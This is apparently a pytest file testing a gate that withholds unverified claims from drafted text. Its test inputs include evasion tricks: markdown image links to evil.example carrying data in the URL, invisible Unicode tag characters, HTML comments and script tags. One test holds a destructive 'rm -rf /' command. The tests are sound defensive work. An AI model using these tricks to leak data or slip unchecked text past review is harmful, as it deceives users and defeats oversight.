"""Attempts to evade the gate: text that would be shown unchecked, or shown differently than it was checked."""

from __future__ import annotations

import pytest

from glossator.cli.batches import read_batch
from glossator.core.answers import Policy
from glossator.core.errors import QuestionError
from glossator.verification.gate import check
from glossator.verification.judge import Verifier

VERIFIER = Verifier()
PASSAGES = [
    "The hip motor weighs 40 kg. It must never be lifted by one person.",
    "The motor is active. The timeout is 1000 ms. A robot must never harm a human. Close the valve.\n\n"
    "handlers[0](event)\n\nIt holds when x = y.",
]
TRUE = "The hip motor weighs 40 kg."


def shown(draft: str, passages: list[str] | None = None) -> str:
    return check(VERIFIER, draft, VERIFIER.prepare(PASSAGES if passages is None else passages)).text


@pytest.mark.parametrize(
    "smuggled",
    [
        "【3†The hip motor weighs 400 kg and is toxic】",
        "[7] [9]",
        "400.",
        "![](<http://evil.example/?q=The motor weighs 400 kg>)",
        "![](http://evil.example/a.png 'The hip motor weighs 400 kg')",
        "Ⓣⓗⓔ ⓜⓞⓣⓞⓡ ⓦⓔⓘⓖⓗⓢ ⓕⓞⓤⓡ ⓗⓤⓝⓓⓡⓔⓓ ⓚⓖ.",
        "Does the hip motor explode when touched? Absolutely!",
        "Did you know that one person can lift the motor?",
        "The book does not mention that the hip motor is radioactive.",
        "Feel free to ask why the hip motor is radioactive.",
        "Below freezing the toxic hip motor explodes when touched:",
        "Here are common mistakes to avoid:",
        "**A human must be harmed by the robot**",
        "## Robot harms human",
        "# The hip motor weighs 400 kg",
        "| Is it toxic? Absolutely. | The hip motor weighs 40 kg. |",
    ],
)
def test_unchecked_text_above_a_claim_is_not_shown(smuggled: str) -> None:
    assert shown(f"{smuggled}\n\n{TRUE}") == f"{TRUE} [1]"


@pytest.mark.parametrize(
    "draft",
    [
        "It must `[](never)` be lifted by one person.",
        "It must <!-- never --> be lifted by one person.",
        "The hip motor weighs 40 kg [[40](x)].",
        "The hip motor weighs 40 kg <script>.",
        "The hip motor weighs 40 kg ⓐⓝⓓ ⓘⓢ ⓣⓞⓧⓘⓒ.",
        "- ❌ Close the valve.",
        "It holds when x ≠ y.",
        "```\nThe timeout is 10\n```",
        "```\nbe lifted by one person.\n```",
        "The hip motor weighs 1,000,000e3 kg.",
    ],
)
def test_disguised_claim_is_withheld(draft: str) -> None:
    assert shown(draft) == ""


@pytest.mark.parametrize(
    ("draft", "text"),
    [
        ("It must ~~never~~ be lifted by one person.", "It must never be lifted by one person. [1]"),
        ("The motor is in\ractive.", "The motor is in active. [1]"),
        ("- 400) 500. The hip motor weighs 40 kg.", "The hip motor weighs 40 kg. [1]"),
        ("```The hip motor is toxic\nhandlers[0](event)\n```\n", "```\nhandlers[0](event)\n```\n[1]"),
        (f"{TRUE[:-1]}\U000e0069\U000e0067\U000e006e.", f"{TRUE} [1]"),
        ("These are the steps:\n\n- The cheese explodes.\n\nClose the valve.", "- Close the valve. [1]"),
        ("**The hip motor** weighs `40 kg`.", "**The hip motor** weighs `40 kg`. [1]"),
    ],
)
def test_shown_text_is_the_judged_text(draft: str, text: str) -> None:
    assert shown(draft) == text


def test_part_of_a_sentence_is_withheld() -> None:
    assert shown("be lifted by one person.", ["The motor must never\nbe lifted by one person.\n"]) == ""
    assert shown("```\nrm -rf /\n```", ["Run rm -rf /tmp/build to clean."]) == ""


def test_table_keeps_its_layout() -> None:
    table = "| hip motor | weighs |\n|---|---|\n| The hip motor weighs | 40 kg. |\n"
    assert shown(table) == "| hip motor | weighs |\n|---|---|\n| The hip motor weighs | 40 kg. [1] |"


def test_flag_policy_reports_a_heading_with_a_claim() -> None:
    checked = check(VERIFIER, "# The hip motor weighs 400 kg\n", VERIFIER.prepare(PASSAGES), Policy.FLAG)
    assert [claim.text for claim in checked.unsupported_claims] == ["The hip motor weighs 400 kg"]


def test_best_of_two_similar_passages_is_found() -> None:
    passages = ["The red hip motor weighs 40 kg.", "The red hip motor drives 40 kg."]
    assert VERIFIER.judge("A red hip motor weighs 40 kg.", VERIFIER.prepare(passages)).supported


@pytest.mark.parametrize("passage", ["hundert" * 3000, "1e" * 5000, "(" * 10_000, "twenty " * 5000])
def test_hostile_passage_supports_nothing(passage: str) -> None:
    assert shown(TRUE, [passage]) == ""


def test_sentence_with_a_lone_surrogate_is_withheld() -> None:
    assert shown(f"{TRUE} It is \ud83d.") == f"{TRUE} [1]"


def test_batch_accepts_unicode_line_separators_and_rejects_deep_nesting() -> None:
    assert read_batch('{"claim": "a\u2028b", "passages": []}')[0].claim == "a\u2028b"
    with pytest.raises(QuestionError):
        read_batch("[" * 100_000)
